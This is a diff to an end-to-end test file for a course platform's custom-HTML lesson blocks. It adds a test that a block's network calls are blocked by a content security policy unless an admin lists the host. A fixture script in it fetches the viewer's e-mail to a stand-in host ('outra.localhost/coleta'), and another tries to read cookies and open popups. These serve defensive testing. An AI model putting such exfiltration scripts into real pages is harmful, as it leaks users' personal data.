@@ -6,7 +6,8 @@ import { adminApi } from './support/admin-api';
 // HTML personalizado (SPEC 2.10): the admin builds a lesson block through the panel (validation, the
 // CodeMirror editor, the preview, Salvar), the student sees it on that lesson only, at its content's
 // height; a hostile block cannot read the parent's cookies, navigate the page or open a popup, in the
-// student's page and in the preview alike; then the blocks are deleted (Não, then Sim).
+// student's page and in the preview alike; then the blocks are deleted (Não, then Sim). A block reaches no
+// other host unless its allowed hosts, edited in the panel, name it (ADR 0242).
 
 const tenantId = stableId(seedKeys.tenant('demo'));
 const photo = 'fotografia-com-o-celular';
@@ -27,13 +28,22 @@ const HOSTILE =
   'try{var w=window.open("https://example.com/popup");put("popup",w?"opened":"blocked:null")}catch(e){put("popup","blocked:"+e.name)}' +
   '</script>';
 
+// A block that tries to send the viewer's e-mail to another origin, and says what became of it: a
+// CSP refusal is a securitypolicyviolation event; an allowed call to a port nobody listens on just fails.
+const NET_TITLE = 'Bloco de rede';
+const NET =
+  '<pre id="net">pending</pre><script>var out=document.getElementById("net");' +
+  'document.addEventListener("securitypolicyviolation",function(e){if(e.violatedDirective.indexOf("connect-src")===0)out.textContent="blocked:"+e.blockedURI});' +
+  'fetch("https://outra.localhost/coleta?e={{email}}",{mode:"no-cors"}).then(function(){out.textContent="sent"},' +
+  'function(){setTimeout(function(){if(out.textContent==="pending")out.textContent="failed"},500)});</script>';
+
 async function removeBlocks() {
   const api = await adminApi();
   try {
     const list = await api.call('GET', '/api/platform/auth/custom-html?page=1');
     expect(list.status).toBe(200);
     for (const b of list.body.data as { id: string; title: string }[])
-      if ([TITLE, HOSTILE_TITLE].includes(b.title))
+      if ([TITLE, HOSTILE_TITLE, NET_TITLE].includes(b.title))
         expect((await api.call('DELETE', `/api/platform/auth/custom-html/${b.id}`)).status).toBe(200);
   } finally {
     await api.dispose();
@@ -208,6 +218,57 @@ test.describe('HTML personalizado', () => {
     await page.goto(url);
     await expect(page.getByTestId('lesson-page')).toBeVisible();
     await expect(page.getByTestId('custom-html-blocks')).toHaveCount(0);
+  });
+
+  test('a block reaches no other host by default; the hosts saved in the panel are allowed', async ({
+    page,
+  }) => {
+    await signIn(page, 'admin@demo.local');
+    const created = await page.request.post('/api/platform/auth/custom-html', {
+      data: {
+        title: NET_TITLE,
+        html: NET,
+        page: 'lesson',
+        course_id: stableId(seedKeys.course('demo', photo)),
+        module_id: stableId(seedKeys.module('demo', photo, 1)),
+        lesson_id: stableId(seedKeys.lesson('demo', photo, 1, 4)),
+      },
+    });
+    expect(created.status()).toBe(201);
+    const url = lessonUrl(1, 4);
+    const net = page.frameLocator('[data-testid="custom-html-blocks"] iframe').locator('#net');
+    await page.goto(url);
+    await expect(net).toHaveText(/^blocked:https:\/\/outra\.localhost/);
+
+    // The panel: a URL is not a host (the form says so before sending); a host name saves.
+    await page.goto(`${demoUrl}/homepage`);
+    const panel = await openPanel(page);
+    const card = panel.getByTestId('custom-html-card').filter({ hasText: NET_TITLE });
+    await card.getByTestId('custom-html-edit').click();
+    const dialog = page.getByTestId('custom-html-dialog');
+    const hosts = dialog.getByTestId('custom-html-allowed-hosts');
+    await expect(hosts).toHaveValue('');
+    await hosts.fill('https://outra.localhost/coleta');
+    const hostError = 'Informe apenas nomes de host, como api.exemplo.com (sem https://, porta ou caminho)';
+    await dialog.getByTestId('custom-html-preview-open').click();
+    await expect(dialog.getByTestId('custom-html-field-error')).toHaveText(hostError);
+    await expect(page.getByTestId('custom-html-preview')).toHaveCount(0);
+    await dialog.getByTestId('custom-html-save').click();
+    await expect(dialog.getByTestId('custom-html-field-error')).toHaveText(hostError);
+    await hosts.fill('outra.localhost');
+    await dialog.getByTestId('custom-html-save').click();
+    await expect(page.getByText('HTML personalizado editado com sucesso')).toBeVisible();
+    await expect(dialog).toBeHidden();
+    await card.getByTestId('custom-html-card-toggle').click();
+    await expect(card.getByTestId('custom-html-card-hosts')).toHaveText('Hosts permitidos: outra.localhost');
+    await card.getByTestId('custom-html-edit').click();
+    await expect(hosts).toHaveValue('outra.localhost');
+    await page.keyboard.press('Escape');
+    await expect(dialog).toBeHidden();
+
+    // Allowed now: the call is made (and fails, nothing listens there), no policy refuses it.
+    await page.goto(url);
+    await expect(net).toHaveText('failed', { timeout: 20_000 });
   });
 
   test('at 390 px the panel, the modal and the student frame fit the screen', async ({ page, browser }) => {
